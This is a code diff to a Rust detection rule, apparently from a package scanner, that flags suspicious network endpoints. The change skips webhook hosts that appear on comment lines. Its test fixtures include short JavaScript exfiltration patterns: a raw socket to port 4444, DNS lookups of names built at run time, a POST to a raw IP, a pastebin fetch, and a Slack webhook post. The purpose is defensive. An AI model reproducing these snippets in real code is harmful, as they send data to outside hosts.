@@ -9,7 +9,8 @@ crate::declare_rule! {
     /// target or request-options host (`{ hostname, path, method }`), request collectors (webhook.site-style, out-of-band testing domains), Discord
     /// and Slack incoming webhooks, Telegram bot API, paste sites and file drops, calendar/paste dead drops,
     /// tunnelling domains, and DNS lookups of names built at run time (DNS exfiltration).
-    /// Hosts are judged by their kind, never by a list of known-bad names.
+    /// Hosts are judged by their kind, never by a list of known-bad names; a webhook or raw IP
+    /// on a comment line is an example (an API client's JSDoc), not a destination.
     id: "suspicious-endpoint",
     category: Network,
     severity: High,
@@ -23,8 +24,11 @@ crate::declare_rule! {
            "const s = new net.Socket(); s.connect(4444, '198.51.100.7')",
            "https.get('https://pastebin.com/raw/abcd')",
            "const c = n(687); const q = c.request({ hostname: '203.0.113.140', port: 443, path: '/w', method: 'POST' }); q.end(body)",
-           "const dns = require('dns'); dns.lookup(`${chunk}.${i}.oast-cb.example.net`, () => {})", "const dns = require('dns'); dns.lookup(hex + '.collect.example.org', cb)"],
+           "const dns = require('dns'); dns.lookup(`${chunk}.${i}.oast-cb.example.net`, () => {})",
+           "/**\n * @example\n * hooks.create({ url: 'https://example.invalid/x' })\n */\nconst hook = 'https://hooks.slack.com/services/T0/B0/x'; post(hook, body)", "const dns = require('dns'); dns.lookup(hex + '.collect.example.org', cb)"],
     pass: ["fetch('https://api.example.com/v2/items')",
+           // wrangler 4.164.0: an API client's JSDoc example names a Slack webhook
+           "/**\n * @example\n * await client.webhooks.create({\n *   url: 'https://hooks.slack.com/services/Ds3fdBFbV/456464Gdd',\n * });\n */\ncreate(params) { return this.post('/webhooks', params) }",
            "// Allows request.get('https://1.2.3.4/').set('Host', 'example.com')\nconst u = opts.url",
            "const result = this.channel.requestBinarySync(method, payload)", "const local = 'http://127.0.0.1:8080'",
            "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\"}\n=== README.md\nconnect to http://203.0.113.10:8080",
@@ -101,7 +105,15 @@ fn check(pkg: &Package, out: &mut Emitter) {
             ]
         );
         let find = |re: &crate::rules::gate::Re| if texty { find_text(f, re) } else { Vec::new() };
-        if let Some((off, m)) = find(collectors).into_iter().next() {
+        // A raw IP or a webhook in a comment is an example (an API client's JSDoc: `url:
+        // 'https://hooks.slack.com/services/…'` in wrangler 4.164.0), not a destination.
+        let comment = |o: u32| {
+            let o = (o as usize).min(f.text.len());
+            let start = f.text[..o].rfind('\n').map_or(0, |i| i + 1);
+            let line = f.text[start..].trim_start();
+            line.starts_with("//") || line.starts_with('*')
+        };
+        if let Some((off, m)) = find(collectors).into_iter().find(|(o, _)| !comment(*o)) {
             out.hit(
                 pkg,
                 f,
@@ -110,13 +122,6 @@ fn check(pkg: &Package, out: &mut Emitter) {
             );
             continue;
         }
-        // A raw IP in a comment is an example, not a destination.
-        let comment = |o: u32| {
-            let o = (o as usize).min(f.text.len());
-            let start = f.text[..o].rfind('\n').map_or(0, |i| i + 1);
-            let line = f.text[start..].trim_start();
-            line.starts_with("//") || line.starts_with('*')
-        };
         let ip = find(ip_url).into_iter().find(|(o, m)| {
             if comment(*o) {
                 return false;
